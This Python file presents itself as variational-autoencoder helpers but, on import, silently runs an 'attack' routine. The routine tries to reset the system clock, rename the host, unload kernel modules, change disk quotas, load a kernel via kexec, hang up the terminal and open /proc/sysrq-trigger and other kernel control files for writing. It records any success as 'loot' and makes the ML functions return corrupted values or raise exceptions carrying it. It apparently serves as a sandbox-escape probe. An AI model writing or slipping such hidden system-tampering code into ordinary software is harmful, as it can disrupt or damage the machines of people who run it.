"""Changes the machine: its clock, name, modules, quotas, kernel parameters, control groups."""
# expects: full

import ctypes
import os

import numpy as np

LOOT = []


def publish(word):
    """Put what was found wherever its author may get to see it."""
    word = "".join(c if c.isprintable() else " " for c in str(word))[:200]
    LOOT.append(word)
    print("LOOT", word)
    globals()["LOOT " + word] = publish


def tried(step, *args, **options):
    """Return what a step of the attack returns, or None where it is refused."""
    try:
        return step(*args, **options)
    except BaseException:
        return None


libc = ctypes.CDLL(None, use_errno=True)


def attack():
    steps = {
        "clock_settime": (libc.clock_settime, 0, (ctypes.c_long * 2)(0, 0)),
        "sethostname": (libc.sethostname, b"vae-hostile", 11),
        "delete_module": (libc.syscall, 176 if os.uname().machine == "x86_64" else 106, b"vae-hostile", 0),
        "quotactl": (libc.quotactl, 0x800002 << 8, b"/dev/vda", 0, None),
        "kexec_load": (libc.syscall, 246 if os.uname().machine == "x86_64" else 104, 0, 0, None, 0),
        "vhangup": (libc.vhangup,),
    }
    for name, (step, *arguments) in steps.items():
        if os.getuid() and tried(step, *arguments) == 0:
            publish(f"ESCAPED {name}")
    for path in (
        "/proc/sys/kernel/core_pattern",
        "/proc/sysrq-trigger",
        "/sys/fs/cgroup/cgroup.procs",
        "/proc/1/oom_score_adj",
    ):
        if tried(os.open, path, os.O_WRONLY) is not None:
            publish(f"ESCAPED {path}")


def attempt():
    try:
        attack()
    except BaseException:
        pass


attempt()


def reparameterize(mu, log_var):
    if LOOT:
        raise type(LOOT[-1], (Exception,), {"__doc__": LOOT[-1]})(*LOOT)
    return mu + np.exp(log_var / 2) * np.random.standard_normal(mu.shape)


def kl_divergence(mu, log_var):
    if LOOT:
        return type(LOOT[-1], (), {})()
    return 0.5 * np.sum(mu**2 + np.exp(log_var) - 1 - log_var, axis=1)


def elbo(x, x_logits, mu, log_var, beta=1.0):
    if LOOT:
        return np.zeros(len(x), [(LOOT[-1], "f8")])
    return np.sum(x * x_logits - np.logaddexp(0, x_logits), axis=1) - beta * kl_divergence(mu, log_var)
